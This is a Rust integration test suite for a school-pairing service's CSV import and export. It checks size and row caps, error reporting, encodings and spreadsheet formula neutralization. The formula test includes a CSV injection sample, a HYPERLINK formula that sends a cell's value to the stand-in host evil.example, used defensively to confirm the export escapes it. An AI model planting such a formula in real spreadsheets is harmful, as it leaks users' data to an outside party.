//! CSV import limits and formula-safe export (issue 17; review findings 14 and 15), against a
//! real server on SQLite with real HTTP: the body cap and the row cap answer with a problem
//! naming the limit, a file of bad rows lists at most 100 errors with the total count and
//! costs linear work, row numbers survive quoted multi-line cells and blank lines, GBK
//! (GB18030) files are decoded, and exported cells that a spreadsheet would run as a formula
//! are prefixed with `'` (and the prefix is taken off again on import).
//!
//! Run: `cargo test --test csv_limits -- --nocapture` (prints the server's answer times).

mod support;

use std::time::{Duration, Instant};

use reqwest::{Method, StatusCode};
use serde_json::{json, Value};
use support::school::{fixture, App, Backend};

const PAIRING_HEADER: &str = "hub_school_code,partner_school_code,subject,grade,term,owner\n";
const TIMETABLE_HEADER: &str =
    "term,weekday,period,starts,ends,subject,grade,mode,hub_teacher_code,hub_classroom,sites\n";

fn kind(v: &Value) -> &str {
    v["type"]
        .as_str()
        .unwrap_or("")
        .trim_start_matches("urn:classrelay:problem:")
}

/// CPU time this process (server and client) has used, from `/proc/self/stat` (Linux; for
/// the printed figures only).
fn cpu_time() -> Option<Duration> {
    let stat = std::fs::read_to_string("/proc/self/stat").ok()?;
    let after_name = &stat[stat.rfind(')')? + 2..];
    let f: Vec<u64> = after_name
        .split(' ')
        .skip(11)
        .take(2)
        .filter_map(|x| x.parse().ok())
        .collect();
    // utime + stime, in clock ticks (100 a second on Linux).
    Some(Duration::from_millis((f.first()? + f.get(1)?) * 10))
}

/// Posts raw bytes as admin; returns status, the body's length and the body as JSON.
async fn post_bytes(app: &App, path: &str, body: Vec<u8>) -> (StatusCode, usize, Value) {
    let cpu = cpu_time();
    let t = Instant::now();
    let r = app
        .http
        .post(format!("{}{path}", app.base))
        .bearer_auth(&app.admin)
        .header("content-type", "text/csv")
        .body(body)
        .send()
        .await
        .unwrap();
    let s = r.status();
    let ct = r
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap().to_string());
    let bytes = r.bytes().await.unwrap();
    let used = cpu.zip(cpu_time()).map(|(a, b)| b.saturating_sub(a));
    eprintln!(
        "POST {path}: {s} in {:?} (process CPU {used:?}), {} response bytes",
        t.elapsed(),
        bytes.len()
    );
    if !s.is_success() {
        assert_eq!(ct.as_deref(), Some("application/problem+json"));
    }
    (
        s,
        bytes.len(),
        serde_json::from_slice(&bytes).unwrap_or(Value::Null),
    )
}

async fn start() -> App {
    App::start(Backend::Sqlite).await.expect("sqlite works")
}

async fn pairings(app: &App) -> Vec<Value> {
    let (s, v) = app
        .call(Some(&app.admin), Method::GET, "/api/pairings", None)
        .await;
    assert_eq!(s, StatusCode::OK, "{v}");
    v.as_array().unwrap().clone()
}

/// A file just under the 4 MiB cap whose every row names an unknown partner school (under
/// the row cap): 100 errors listed, the total counted, nothing imported.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn four_mib_of_bad_rows_lists_100_errors_and_counts_all() {
    let app = start().await;
    let _f = fixture(&app).await;
    let rows = 19_999;
    let mut csv = String::from(PAIRING_HEADER);
    for _ in 0..rows {
        let row = "HUB01,NOPE,数学,三年级,2026秋,";
        csv.push_str(row);
        csv.push_str(&"x".repeat(209 - row.len() - 1));
        csv.push('\n');
    }
    assert!(
        csv.len() > 4_150_000 && csv.len() < 4 << 20,
        "{}",
        csv.len()
    );
    let (s, len, v) = post_bytes(&app, "/api/pairings/import", csv.into_bytes()).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    assert_eq!(kind(&v), "csv-rejected");
    let errors = v["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 100);
    assert_eq!(v["error_count"], rows);
    assert_eq!(
        errors[0],
        json!({"row": 2, "column": "partner_school_code", "message": "no school with code `NOPE`"})
    );
    assert_eq!(errors[99]["row"], 101);
    assert!(
        v["detail"]
            .as_str()
            .unwrap()
            .starts_with("19999 problem(s)"),
        "{v}"
    );
    assert!(len < 32 * 1024, "response of {len} bytes");
    assert!(pairings(&app).await.is_empty(), "nothing imported");
}

/// 256 KiB of short bad rows (two errors each, under the row cap): the response stays small
/// and counts every error (before the fix, the review measured 7.6 s and a 37.8 MB answer
/// for 256 KiB of bad rows).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn quarter_mib_of_short_bad_rows_is_counted_not_listed() {
    let app = start().await;
    let _f = fixture(&app).await;
    let row = "H1,N1,s,g,t,o\n";
    let rows = (256 * 1024 - PAIRING_HEADER.len()) / row.len();
    let csv = format!("{PAIRING_HEADER}{}", row.repeat(rows));
    assert!(rows < 20_000 && csv.len() <= 256 * 1024);
    let (s, len, v) = post_bytes(&app, "/api/pairings/import", csv.into_bytes()).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    assert_eq!(v["errors"].as_array().unwrap().len(), 100);
    assert_eq!(v["error_count"], 2 * rows);
    assert_eq!(v["errors"][0]["column"], "hub_school_code");
    assert_eq!(v["errors"][1]["column"], "partner_school_code");
    assert_eq!(v["errors"][99]["row"], 51);
    assert!(len < 32 * 1024, "response of {len} bytes");
}

/// The review's reproduction (`x` rows) at 256 KiB and at the 4 MiB cap: more rows than the
/// limit is refused with 413, naming the limit, without listing anything.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn more_rows_than_the_limit_is_413_naming_it() {
    let app = start().await;
    let _f = fixture(&app).await;
    for size in [256 * 1024, (4 << 20) - 256] {
        for (path, header) in [
            ("/api/pairings/import", PAIRING_HEADER),
            ("/api/timetable/import", TIMETABLE_HEADER),
        ] {
            let csv = format!("{header}{}", "x\n".repeat((size - header.len()) / 2));
            let (s, len, v) = post_bytes(&app, path, csv.into_bytes()).await;
            assert_eq!(s, StatusCode::PAYLOAD_TOO_LARGE, "{v}");
            assert_eq!(kind(&v), "csv-too-many-rows");
            assert_eq!(v["max_rows"], 20_000);
            assert!(v["detail"].as_str().unwrap().contains("20000"), "{v}");
            assert!(len < 1024);
        }
    }
    // Exactly at the limit is not refused for its size (the rows are checked instead).
    let csv = format!("{PAIRING_HEADER}{}", "x\n".repeat(20_000));
    let (s, _, v) = post_bytes(&app, "/api/pairings/import", csv.into_bytes()).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    assert_eq!(v["error_count"], 20_000 * 5);
}

/// Over the 4 MiB body cap: 413 naming the cap.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn body_over_4_mib_is_413_naming_the_cap() {
    let app = start().await;
    let csv = format!("{PAIRING_HEADER}{}", "y".repeat(4 << 20));
    let (s, _, v) = post_bytes(&app, "/api/pairings/import", csv.into_bytes()).await;
    assert_eq!(s, StatusCode::PAYLOAD_TOO_LARGE, "{v}");
    assert_eq!(kind(&v), "body-too-large");
    assert_eq!(v["max_bytes"], 4 << 20);
    assert!(v["detail"].as_str().unwrap().contains("4194304"), "{v}");
}

/// Row numbers as before the fix: the line the record starts on, counting the header, blank
/// lines, CRLF line ends and the lines inside quoted multi-line cells.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn row_numbers_count_multiline_cells_and_blank_lines() {
    let app = start().await;
    let _f = fixture(&app).await;
    let csv = "hub_school_code,partner_school_code,subject,grade,term,owner\r\n\
HUB01,ZJ01,\"数学\n第二行\n第三行\",三年级,2026秋,x\r\n\
\r\n\
\n\
HUB01,NOPE,数学,三年级,2026秋,x\n\
HUB01,ZJ02,\"a\r\nb\",三年级,2026秋,\"多\n行\"\n\
\n\
NOPE,ZJ02,数学,三年级,2026秋,x\n";
    let (s, _, v) = post_bytes(&app, "/api/pairings/import", csv.as_bytes().to_vec()).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    assert_eq!(
        v["errors"],
        json!([
            {"row": 7, "column": "partner_school_code", "message": "no school with code `NOPE`"},
            {"row": 12, "column": "hub_school_code", "message": "no school with code `NOPE`"},
        ]),
        "{v}"
    );
    assert_eq!(v["error_count"], 2);
}

/// A GBK (GB18030) file, as Chinese Excel saves "CSV", is decoded and imported; so is UTF-8
/// with a byte-order mark; bytes that are neither are refused with 415 naming the encodings.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn gbk_and_bom_files_import_and_other_bytes_are_415() {
    let app = start().await;
    let _f = fixture(&app).await;
    let text = format!(
        "{PAIRING_HEADER}HUB01,ZJ01,英语,三年级,2026秋,昭觉县教育局\n\
HUB01,ZJ02,音乐,四年级,2026秋,昭觉县教育局\n"
    );
    let (gbk, _, unmappable) = encoding_rs::GBK.encode(&text);
    assert!(!unmappable);
    assert!(std::str::from_utf8(&gbk).is_err(), "really not UTF-8");
    let (s, _, v) = post_bytes(&app, "/api/pairings/import", gbk.into_owned()).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(v["imported"], 2);
    let stored = pairings(&app).await;
    assert!(
        stored
            .iter()
            .any(|p| p["subject"] == "英语" && p["owner"] == "昭觉县教育局"),
        "{stored:?}"
    );
    // UTF-8 with a BOM; a bad code in it shows the BOM did not end up in the header.
    let bom = format!("\u{feff}{PAIRING_HEADER}HUB01,ZJ01,数学,三年级,2026秋,x\n");
    let (s, _, v) = post_bytes(&app, "/api/pairings/import", bom.into_bytes()).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    // Neither UTF-8 nor GB18030 (0xFF never starts a GB18030 sequence).
    let mut bad = PAIRING_HEADER.as_bytes().to_vec();
    bad.extend_from_slice(b"HUB01,ZJ01,\xff\xfe\xff,g,t,o\n");
    let (s, _, v) = post_bytes(&app, "/api/pairings/import", bad).await;
    assert_eq!(s, StatusCode::UNSUPPORTED_MEDIA_TYPE, "{v}");
    assert_eq!(kind(&v), "bad-encoding");
    let d = v["detail"].as_str().unwrap();
    assert!(d.contains("UTF-8") && d.contains("GBK"), "{v}");
    assert_eq!(pairings(&app).await.len(), 3);
}

/// Cells a spreadsheet would run as a formula are exported with a leading `'`; importing the
/// export takes it off again, so export → import leaves the data as it was.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_cells_are_exported_inert_and_round_trip() {
    let app = start().await;
    let f = fixture(&app).await;
    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    let cases = [
        (f.partner_a, evil, "三年级", "2026秋", "-1"),
        (f.partner_b, "+SUM(1,2)", "@A1", "2026秋", "\tx"),
        (f.partner_b, "'=已经有引号", "-三年级", "2026秋", "'plain"),
        (f.partner_a, "数学", "四年级", "\r=1", "昭觉县"),
    ];
    for (partner, subject, grade, term, owner) in cases {
        app.create(
            "/api/pairings",
            json!({"hub_school_id": f.hub_school, "partner_school_id": partner,
                   "subject": subject, "grade": grade, "term": term, "owner": owner}),
        )
        .await;
    }
    let before = pairings(&app).await;
    let r = app
        .http
        .get(format!("{}/api/pairings.csv", app.base))
        .bearer_auth(&app.admin)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let text = r.text().await.unwrap();
    let cells: Vec<Vec<String>> = csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    let evil_row = cells.iter().find(|r| r[2].contains("HYPERLINK")).unwrap();
    assert_eq!(evil_row[2], format!("'{evil}"), "{text}");
    assert_eq!(evil_row[5], "'-1");
    let plus = cells.iter().find(|r| r[2].contains("SUM")).unwrap();
    assert_eq!(plus[2], "'+SUM(1,2)");
    assert_eq!(plus[3], "'@A1");
    assert_eq!(plus[5], "'\tx");
    let quoted = cells.iter().find(|r| r[2].contains("已经有引号")).unwrap();
    assert_eq!(quoted[2], "''=已经有引号", "an existing quote is kept too");
    assert_eq!(
        quoted[5], "'plain",
        "a quote before harmless text is left alone"
    );
    assert_eq!(quoted[3], "'-三年级");
    let cr = cells.iter().find(|r| r[2] == "数学").unwrap();
    assert_eq!(cr[4], "'\r=1");
    for r in &cells {
        for c in r {
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r', '\0']),
                "dangerous cell {c:?} in {text}"
            );
        }
    }
    // Round trip: delete everything, import the export, compare.
    for p in &before {
        let (s, v) = app
            .call(
                Some(&app.admin),
                Method::DELETE,
                &format!("/api/pairings/{}", p["id"]),
                None,
            )
            .await;
        assert!(s.is_success(), "{s} {v}");
    }
    assert!(pairings(&app).await.is_empty());
    let (s, _, v) = post_bytes(&app, "/api/pairings/import", text.into_bytes()).await;
    assert_eq!(s, StatusCode::OK, "{v}");
    assert_eq!(v["imported"], 4);
    let strip = |v: &Vec<Value>| {
        let mut out: Vec<Value> = v
            .iter()
            .map(|p| {
                let mut p = p.clone();
                p.as_object_mut().unwrap().remove("id");
                p
            })
            .collect();
        out.sort_by_key(|p| p.to_string());
        out
    };
    assert_eq!(strip(&pairings(&app).await), strip(&before));
}
